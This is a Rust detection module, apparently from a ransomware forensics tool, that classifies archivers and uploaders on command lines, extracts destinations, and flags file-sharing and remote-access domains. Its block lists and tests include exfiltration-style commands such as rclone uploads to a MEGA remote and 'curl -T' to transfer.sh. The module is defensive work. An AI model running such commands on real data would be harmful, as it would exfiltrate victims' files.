//! Recognising data-moving tools and tying their command lines to the data
//! stores of the assets file.
//!
//! Why heuristics on command lines: ransomware crews stage data with a
//! handful of tools (WinRAR/7-Zip to pack, rclone/MEGAcmd to send); their
//! command lines name the source folder and the destination remote, which
//! is exactly what a data-breach notification must state.

use crate::model::{DataStoreAsset, ExposureActivity};
use crate::names::{basename, host_key, wildcard};

// makecab.exe is left out: Windows itself runs it all the time (CBS logs).
const ARCHIVERS: &[&str] = &[
    "rar.exe",
    "winrar.exe",
    "7z.exe",
    "7za.exe",
    "7zr.exe",
    "7zg.exe",
    "zip.exe",
];
const UPLOADERS: &[&str] = &[
    "rclone.exe",
    "megacmd.exe",
    "megacmdclient.exe",
    "megasync.exe",
    "mega-put.exe",
    "winscp.exe",
    "winscp.com",
    "pscp.exe",
    "restic.exe",
    "filezilla.exe",
    "ftp.exe",
    "exmatter.exe",
];
const COPIERS: &[&str] = &["robocopy.exe", "xcopy.exe"];

/// What kind of data-moving tool a process is, if any.
pub(crate) fn tool_kind(base: &str, original: Option<&str>, cmd: &str) -> Option<ExposureActivity> {
    let names = [Some(base), original];
    let is = |list: &[&str]| names.iter().flatten().any(|n| list.contains(n));
    if is(ARCHIVERS) {
        return Some(ExposureActivity::Archive);
    }
    if is(UPLOADERS) {
        return Some(ExposureActivity::Upload);
    }
    if is(COPIERS) {
        return Some(ExposureActivity::Copy);
    }
    // Lower-casing the command line costs an allocation: only for the two
    // tools whose arguments decide.
    if base == "curl.exe" {
        let lc = cmd.to_ascii_lowercase();
        if lc.contains(" -t ") || lc.contains("--upload-file") || lc.contains(" -f ") {
            return Some(ExposureActivity::Upload);
        }
    }
    if (base == "powershell.exe" || base == "pwsh.exe")
        && cmd.to_ascii_lowercase().contains("compress-archive")
    {
        return Some(ExposureActivity::Archive);
    }
    None
}

/// Destinations named on an upload command line: rclone-style remotes
/// (`mega:backup`) and URLs' hosts.
pub(crate) fn destinations(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    for tok in split_args(cmd) {
        let t = tok.trim_matches('"');
        if let Some(rest) = t
            .strip_prefix("https://")
            .or_else(|| t.strip_prefix("http://"))
            .or_else(|| t.strip_prefix("ftp://"))
        {
            let host = rest.split(['/', ':']).next().unwrap_or(rest);
            if !host.is_empty() {
                out.push(host.to_ascii_lowercase());
            }
            continue;
        }
        if t.starts_with('-') {
            continue;
        }
        if let Some((remote, _)) = t.split_once(':') {
            // `C:\...` is a drive, `mega:` a remote.
            if remote.len() > 1
                && remote
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
            {
                out.push(t.to_string());
            }
        }
    }
    out.sort();
    out.dedup();
    out
}

fn split_args(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quoted = false;
    for c in cmd.chars() {
        match c {
            '"' => quoted = !quoted,
            c if c.is_whitespace() && !quoted => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            c => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// Files named on a command line that look like archives (`cias.rar`).
/// Full paths (lower case) of archive files named on a command line.
pub(crate) fn archive_paths(cmd: &str) -> Vec<String> {
    split_args(cmd)
        .into_iter()
        .map(|t| t.trim_matches('"').to_lowercase())
        .filter(|b| {
            [".rar", ".7z", ".zip", ".tar", ".gz", ".cab"]
                .iter()
                .any(|x| b.ends_with(x))
        })
        .collect()
}

/// Plain path arguments of a command line (not options, not remotes), lower
/// case: what an upload tool sends.
pub(crate) fn path_args(cmd: &str) -> Vec<String> {
    split_args(cmd)
        .into_iter()
        .skip(1)
        .map(|t| t.trim_matches('"').to_lowercase())
        .filter(|t| {
            !t.starts_with('-')
                && (t.contains('\\') || t.contains('/'))
                && !t.contains("://")
                && t.split_once(':').is_none_or(|(r, _)| r.len() <= 1)
        })
        .collect()
}

pub(crate) fn archive_names(cmd: &str) -> Vec<String> {
    split_args(cmd)
        .into_iter()
        .map(|t| basename(&t))
        .filter(|b| {
            [".rar", ".7z", ".zip", ".tar", ".gz", ".cab"]
                .iter()
                .any(|x| b.ends_with(x))
        })
        .collect()
}

/// True if `host` (a host key) is the store's host (pattern allowed).
pub(crate) fn store_on_host(store: &DataStoreAsset, host: &str) -> bool {
    let pat = host_key(&store.host).unwrap_or_else(|| store.host.clone());
    wildcard(&pat, host)
}

/// Data stores a command line run on `host` refers to: by local path on
/// the store's host, or by UNC path `\\host\share` from anywhere.
pub(crate) fn stores_in<'a>(
    cmd: &str,
    host: &str,
    stores: &'a [DataStoreAsset],
) -> Vec<&'a DataStoreAsset> {
    let lc = cmd.to_lowercase();
    stores
        .iter()
        .filter(|st| {
            let by_path = st
                .path
                .as_deref()
                .map(|p| p.trim_end_matches('\\').to_lowercase())
                .is_some_and(|p| !p.is_empty() && lc.contains(&p) && store_on_host(st, host));
            let by_unc = st.share.as_deref().is_some_and(|sh| {
                let sh = sh.to_lowercase();
                lc.match_indices("\\\\").any(|(i, _)| {
                    let rest = &lc[i + 2..];
                    let mut parts = rest.split('\\');
                    let h = parts.next().unwrap_or("");
                    let s = parts
                        .next()
                        .unwrap_or("")
                        .split(|c: char| c.is_whitespace() || c == '"')
                        .next()
                        .unwrap_or("");
                    s == sh && host_key(h).is_some_and(|hk| store_on_host(st, &hk))
                })
            });
            by_path || by_unc
        })
        .collect()
}

/// Domains of file-sharing services used for exfiltration.
pub(crate) fn file_sharing_domain(d: &str) -> bool {
    const DOMAINS: &[&str] = &[
        "mega.nz",
        "mega.co.nz",
        "mega.io",
        "megaupload.com",
        "dropbox.com",
        "dropboxusercontent.com",
        "transfer.sh",
        "wetransfer.com",
        "anonfiles.com",
        "gofile.io",
        "file.io",
        "sendspace.com",
        "pcloud.com",
        "filemail.com",
        "temp.sh",
        "ufile.io",
        "put.io",
    ];
    DOMAINS
        .iter()
        .any(|x| d == *x || d.ends_with(&format!(".{x}")))
}

/// Domains of remote-access tools (persistence by legitimate software).
pub(crate) fn remote_access_domain(d: &str) -> bool {
    const DOMAINS: &[&str] = &[
        "anydesk.com",
        "teamviewer.com",
        "screenconnect.com",
        "splashtop.com",
        "rustdesk.com",
        "atera.com",
        "ngrok.io",
        "ngrok.com",
        "logmein.com",
        "remoteutilities.com",
        "connectwise.com",
    ];
    DOMAINS
        .iter()
        .any(|x| d == *x || d.ends_with(&format!(".{x}")))
}

/// Remote-access tool names in a service name or image path.
pub(crate) fn remote_access_name(s: &str) -> bool {
    let l = s.to_ascii_lowercase();
    [
        "anydesk",
        "teamviewer",
        "screenconnect",
        "splashtop",
        "rustdesk",
        "atera",
        "ngrok",
        "meshagent",
        "remoteutilities",
        "logmein",
    ]
    .iter()
    .any(|x| l.contains(x))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cias() -> DataStoreAsset {
        DataStoreAsset {
            name: "CIAS".into(),
            host: "SRV-FIC01".into(),
            path: Some("D:\\Partages\\CIAS".into()),
            share: Some("CIAS".into()),
            ..Default::default()
        }
    }

    #[test]
    fn tools_and_destinations() {
        assert_eq!(
            tool_kind("rar.exe", None, ""),
            Some(ExposureActivity::Archive)
        );
        assert_eq!(
            tool_kind("svc.exe", Some("rclone.exe"), ""),
            Some(ExposureActivity::Upload)
        );
        assert_eq!(tool_kind("notepad.exe", None, "x"), None);
        assert_eq!(
            destinations("rclone.exe copy C:\\PerfLogs\\cias.rar mega:depot -q --transfers 8"),
            vec!["mega:depot".to_string()]
        );
        assert_eq!(
            destinations("curl.exe -T a.zip https://transfer.sh/x"),
            vec!["transfer.sh".to_string()]
        );
        assert_eq!(
            archive_names("rar.exe a -hpX C:\\PerfLogs\\cias.rar D:\\Partages\\CIAS"),
            vec!["cias.rar"]
        );
    }

    #[test]
    fn stores_by_path_and_unc() {
        let st = [cias()];
        let cmd = "rar.exe a -hpX C:\\PerfLogs\\cias.rar D:\\Partages\\CIAS\\*";
        assert_eq!(stores_in(cmd, "SRV-FIC01", &st).len(), 1);
        // Same local path on another host is not that store.
        assert!(stores_in(cmd, "SRV-APP01", &st).is_empty());
        let unc = "robocopy \\\\srv-fic01.ccpab.local\\CIAS C:\\x /E";
        assert_eq!(stores_in(unc, "PC-ACCUEIL-01", &st).len(), 1);
        assert!(file_sharing_domain("g.api.mega.co.nz"));
        assert!(!file_sharing_domain("notmega.nz"));
        assert!(remote_access_domain("relay-1.net.anydesk.com"));
    }
}
